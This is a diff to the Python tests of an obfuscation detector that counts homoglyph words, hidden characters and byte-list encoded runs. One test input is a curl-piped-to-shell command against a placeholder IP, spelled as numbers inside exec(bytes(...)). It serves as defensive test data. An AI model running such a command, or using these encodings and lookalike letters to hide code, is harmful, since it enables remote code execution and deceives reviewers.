@@ -22,6 +22,8 @@ _TELLING = [
     b"0x1f, " * 15,
     b"\\x1f" * 16,
     "naïve \u202e".encode(),
+    "p\u0430ssword".encode(),
+    b"101, " * 60,
     b"\0\n\0",
     b"VGhpcyBpcyBhIGxvbmcgZW5vdWdoIHRleHQgdGhhdCBpcyBlbmNvZGVkIGFzIGJhc2U2NA==",
     b"f(a,b);" * 200,
@@ -32,8 +34,9 @@ def test_an_ordinary_line_has_nothing_to_report() -> None:
     found = measure_text(b"int main(void) { return 0; }\n")
     assert found["longest_line"] == 28
     assert found["non_ascii"] == 0
-    names = ("hidden", "base64_runs", "hex_runs", "urls", "ip_literals", "minified")
-    assert [found[name] for name in names] == [0] * 6
+    names = ("hidden", "lookalikes", "base64_runs", "hex_runs", "spelled_runs", "urls",
+             "ip_literals", "minified")  # fmt: skip
+    assert [found[name] for name in names] == [0] * 8
 
 
 def test_entropy_is_shannons() -> None:
@@ -62,6 +65,37 @@ def test_hidden_characters_are_counted(character: str) -> None:
 @pytest.mark.parametrize("text", ["naïve café", "日本語", "👍\ufe0f", "\ufeffusing System;"])
 def test_text_in_any_language_hides_nothing(text: str) -> None:
     assert measure_text(text.encode())["hidden"] == 0
+
+
+@pytest.mark.parametrize(
+    ("text", "words"),
+    [
+        ("if p\u0430ssword == s\u0435cret:", 2),
+        ("\u0420aypal(\u03bfk)", 2),
+        (r'print("\n\u041e \u043f\u0440\u043e\u0433\u0440\u0430\u043c\u043c\u0435")', 0),
+        ("SSL-\u0441\u0435\u0440\u0442\u0438\u0444\u0438\u043a\u0430\u0442, PDF\u043e\u043c", 0),
+        ("12 \u03bcs, 5 \u00b5s, \u0394t = 2", 0),
+        ("\u041c\u043e\u0441\u043a\u0432\u0430 caf\u00e9", 0),
+    ],
+)
+def test_words_of_two_scripts_that_look_like_one_are_counted(text: str, words: int) -> None:
+    assert measure_text(text.encode())["lookalikes"] == words
+
+
+@pytest.mark.parametrize(
+    ("numbers", "runs"),
+    [
+        (list(b"import os; os.system('curl -s http://203.0.113.9/x | sh -s now')"), 1),
+        (list(b"short: fifty-nine characters of a text are not yet enough.."), 0),
+        (list(range(256)), 1),
+        ([i * i for i in range(200)], 0),
+        ([100, 200] * 100, 0),
+    ],
+)
+def test_characters_written_as_numbers_are_an_encoded_run(numbers: list[int], runs: int) -> None:
+    for comma in (",", ", ", ",\n    "):
+        text = f"exec(bytes([{comma.join(map(str, numbers))}, 0]))"
+        assert measure_text(text.encode())["spelled_runs"] == runs
 
 
 BASE64 = b"VGhpcyBpcyBhIGxvbmcgZW5vdWdoIHRleHQgdGhhdCBpcyBlbmNvZGVkIGFzIGJhc2U2NCBub3c="
